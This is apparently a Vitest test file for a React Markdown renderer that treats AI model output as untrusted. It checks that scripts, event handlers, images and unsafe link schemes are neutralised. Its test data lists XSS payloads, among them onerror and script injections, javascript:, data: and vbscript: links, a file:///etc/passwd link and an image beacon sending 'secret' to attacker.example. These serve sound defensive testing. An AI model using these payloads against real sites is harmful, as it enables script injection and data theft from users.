// Model output is untrusted. These render hostile answers through the real
// Markdown component (react-dom/server) and check the HTML that results:
// nothing executable, no loaded images, only safe link targets.

import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown, safeUrl } from "../src/components/Markdown";

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} idPrefix="m-1" />);

/** Every start tag in html, as [name, attribute text]. */
function tags(html: string): Array<[string, string]> {
  return [...html.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)].map((m) => [m[1]!.toLowerCase(), m[2]!]);
}

/** Every href value in html. */
const hrefs = (html: string) => [...html.matchAll(/\shref="([^"]*)"/g)].map((m) => m[1]!);

const HOSTILE = [
  `<img src=x onerror="window.__pwned=1">`,
  `<script>window.__pwned=1</script>`,
  `<iframe src="javascript:window.__pwned=1"></iframe>`,
  `<a href="javascript:window.__pwned=1">html link</a>`,
  `<div onmouseover="window.__pwned=1" style="position:fixed;inset:0">cover</div>`,
  `[js link](javascript:window.__pwned=1)`,
  `[JS upper](JaVaScRiPt:window.__pwned=1)`,
  `[spaced js](  javascript:alert(1))`,
  `[entity js](&#106;avascript:alert(1))`,
  `[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[vbscript](vbscript:msgbox(1))`,
  `[file](file:///etc/passwd)`,
  `<javascript:alert(1)>`,
  `![pixel](https://attacker.example/collect?q=secret)`,
  `![data img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  "```html\n<script>window.__pwned=1</script>\n<img src=x onerror=alert(1)>\n```",
  "```\"><img src=x onerror=alert(1)>\ncode\n```",
].join("\n\n");

describe("Markdown with hostile model output", () => {
  const html = render(HOSTILE);

  it("creates no script, iframe, image, style or event-handler markup", () => {
    for (const [name, attrs] of tags(html)) {
      expect(["script", "iframe", "img", "object", "embed", "style", "link", "meta", "svg", "form"]).not.toContain(name);
      expect(attrs).not.toMatch(/\son[a-z]+\s*=/i);
      if (name !== "th" && name !== "td") {
        expect(attrs).not.toMatch(/\sstyle=/i);
      }
    }
  });

  it("links only to http(s) and mailto, in a new tab without opener or referrer", () => {
    const links = [...html.matchAll(/<a\s([^>]*)>/g)].map((m) => m[1]!);
    expect(links.length).toBeGreaterThan(0);
    for (const href of hrefs(html)) {
      expect(href).toMatch(/^(https?:\/\/|mailto:)/);
    }
    for (const attrs of links) {
      expect(attrs).toContain('target="_blank"');
      expect(attrs).toContain('rel="noopener noreferrer"');
    }
  });

  it("shows raw HTML as text, so the reader sees what the model wrote", () => {
    expect(html).toContain("&lt;img src=x onerror=");
    expect(html).toContain("&lt;script&gt;window.__pwned=1&lt;/script&gt;");
  });

  it("turns images into links that load nothing", () => {
    expect(html).toContain(">[Image: pixel]</a>");
    expect(hrefs(html)).toContain("https://attacker.example/collect?q=secret");
    expect(html).toContain("[Image: data img]");
  });

  it("keeps HTML inside code fences as code text with a clean language label", () => {
    expect(html).toMatch(/<code class="language-html">&lt;script&gt;window.__pwned=1&lt;\/script&gt;/);
    // The hostile info string yields no attribute break-out: only its safe characters survive in the label.
    expect(html).not.toContain('"><img');
  });
});

describe("Markdown rendering", () => {
  it("renders GitHub-flavoured Markdown", () => {
    const html = render(
      "# Title\n\n**bold** _em_ ~~gone~~ `code`\n\n- [x] done\n- [ ] todo\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\nhttps://example.com/auto",
    );
    expect(html).toContain("<h1>Title</h1>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<del>gone</del>");
    expect(html).toMatch(/<input type="checkbox" disabled="" aria-label="task" checked=""\/> done/);
    expect(html).toContain("<table>");
    expect(html).toContain('<a href="https://example.com/auto" target="_blank" rel="noopener noreferrer">');
  });

  it("gives a code block a language label and a Copy button", () => {
    const html = render("```ts\nconst x: number = 1;\n```");
    expect(html).toContain('data-language="ts"');
    expect(html).toMatch(/<span[^>]*>ts<\/span>/);
    expect(html).toMatch(/<button type="button"[^>]*>Copy/);
    expect(html).toContain("const x: number = 1;");
  });

  it("labels a fence without a language as text", () => {
    expect(render("```\nplain\n```")).toMatch(/<span[^>]*>text<\/span>/);
  });

  it("wraps a huge table in a scrolling box", { timeout: 60_000 }, () => {
    const cols = 30;
    const row = (cell: (i: number) => string) => `| ${Array.from({ length: cols }, (_, i) => cell(i)).join(" | ")} |`;
    const table = [row((i) => `column ${i}`), row(() => "---"), ...Array.from({ length: 120 }, (_, r) => row((i) => `r${r}c${i}`))].join("\n");
    const html = render(table);
    expect(html).toMatch(/<div[^>]*tabindex="0"[^>]*role="group"[^>]*aria-label="Table"[^>]*><table>/);
    expect(html.match(/<tr>/g)?.length).toBe(121);
  });

  it("renders the same markup whether or not the text arrived in one piece", () => {
    const text = "Intro\n\n```js\nlet a = 1;\n\nlet b = 2;\n```\n\n1. one\n2. two\n\n> quote";
    const whole = render(text);
    expect(whole).toContain("let a = 1;\n\nlet b = 2;");
    expect(whole).toContain("<ol>");
    expect(whole).toContain("<blockquote>");
  });
});

describe("safeUrl", () => {
  it.each([
    ["https://example.com/a?b#c", "https://example.com/a?b#c"],
    ["http://example.com", "http://example.com"],
    ["mailto:someone@example.com", "mailto:someone@example.com"],
    ["#user-content-fn-1", "#user-content-fn-1"],
    ["javascript:alert(1)", ""],
    ["JAVASCRIPT:alert(1)", ""],
    [" javascript:alert(1)", ""],
    ["data:text/html,<script>", ""],
    ["vbscript:x", ""],
    ["//evil.example/x", ""],
    ["/v1/tokens", ""],
    ["relative/path", ""],
  ])("%s → %s", (input, want) => {
    expect(safeUrl(input)).toBe(want);
  });
});
